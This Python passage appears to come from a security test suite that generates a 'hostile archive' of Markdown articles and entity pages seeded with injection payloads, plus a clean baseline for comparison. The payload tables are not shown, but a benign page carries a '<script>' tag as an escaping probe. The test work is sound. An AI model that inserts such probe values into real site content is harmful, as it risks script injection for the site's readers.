def _write_articles(w: _Writer, content: Path, titles: dict, bodies: dict) -> None:
    description_payloads = len(ENTITIES) * BODY_PAYLOADS_PER_DESCRIPTION
    in_articles = BODY_PAYLOADS[: len(BODY_PAYLOADS) - description_payloads]
    per_article = -(-len(in_articles) // ARTICLE_COUNT)
    for k in range(ARTICLE_COUNT):
        chunk = in_articles[k * per_article : (k + 1) * per_article]
        slug = f"hostile-{k:02d}"
        title = w.pair(2 * k)
        meta: dict[str, object] = {
            "title": title,
            "date": FIRST_DATE + dt.timedelta(days=11 * k),
            "slug": slug,
            "summary": w.pair(2 * k + 7),
            "byline": w.pair(2 * k + 13),
            "source": {"name": w.field(2 * k + 17), "url": w.url(k)},
            "sources": [
                {"name": w.field(2 * k + 19), "url": w.url(k + 3)},
                {"name": w.field(2 * k + 23)},
            ],
            "tags": [w.field(2 * k + 29), w.field(2 * k + 31), w.field(2 * k + 37)],
        }
        if k % 4 == 0:
            meta["actors"] = [ENTITIES[(k + 1) % 5].id]
        text = _dump(meta, _article_body(w, k, chunk))
        (content / "articles" / f"{slug}.md").write_text(text, encoding="utf-8")
        titles[f"articles/{slug}/"] = f"{folded(title)} - {SITE_NAME}"
        bodies[f"articles/{slug}/"] = [p.id for p in chunk]


def _write_entities(w: _Writer, content: Path, titles: dict, bodies: dict) -> None:
    description_payloads = len(ENTITIES) * BODY_PAYLOADS_PER_DESCRIPTION
    rest = BODY_PAYLOADS[len(BODY_PAYLOADS) - description_payloads :]
    size = BODY_PAYLOADS_PER_DESCRIPTION
    for index, spec in enumerate(ENTITIES):
        chunk = rest[index * size : (index + 1) * size]
        name = w.name(spec, index)
        meta: dict[str, object] = {
            "name": name,
            "kind": spec.kind,
            "aliases": list(w.aliases(spec)),
            "summary": w.pair(3 * index + 5),
            "role": w.field(3 * index + 11),
        }
        if spec.id != "vestoria":
            meta["country"] = "vestoria"
        meta.update(dict(spec.extra))
        neighbour = ENTITIES[(index + 1) % len(ENTITIES)]
        paragraphs = [f"{w.mention(neighbour, index)} is related.", *map(w.body, chunk)]
        text = _dump(meta, "\n\n".join(paragraphs) + "\n")
        (content / spec.section / f"{spec.id}.md").write_text(text, encoding="utf-8")
        titles[f"{spec.section}/{spec.id}/"] = f"{folded(name)} - {SITE_NAME}"
        bodies[f"{spec.section}/{spec.id}/"] = [p.id for p in chunk]


def write_archive(content: Path, *, clean: bool = False) -> Archive:
    """Write the hostile archive into ``content``; return what the tests expect of it.

    With ``clean``, the same archive (same pages, kinds, charts, links) is written with
    every payload replaced by plain words: the baseline a hostile page is compared with.
    """
    w = _Writer(clean)
    for section in ("articles", "actors", "locations"):
        (content / section).mkdir(parents=True, exist_ok=True)
    titles: dict[str, str] = {}
    bodies: dict[str, list[str]] = {}
    _write_articles(w, content, titles, bodies)
    _write_entities(w, content, titles, bodies)
    benign = {
        "title": BENIGN_TITLE,
        "date": FIRST_DATE,
        "slug": BENIGN_SLUG,
        "summary": BENIGN_SUMMARY,
        "byline": "A careful editor",
        "tags": ["<script>", "&amp;"],
    }
    text = _dump(benign, BENIGN_BODY)
    (content / "articles" / f"{BENIGN_SLUG}.md").write_text(text, encoding="utf-8")
    benign_url = f"articles/{BENIGN_SLUG}/"
    titles[benign_url] = f"{BENIGN_TITLE} - {SITE_NAME}"
    return Archive(titles, bodies, benign_url)


def payload_count() -> int:
    """How many distinct payloads the corpus holds (all tables)."""
    return (
        len(BODY_PAYLOADS)
        + len(REJECTED_BODIES)
        + len(FIELD_PAYLOADS)
        + len(URL_PAYLOADS)
        + len(REJECTED_URLS)
        + sum(len(spec.aliases) + 1 for spec in ENTITIES)
    )
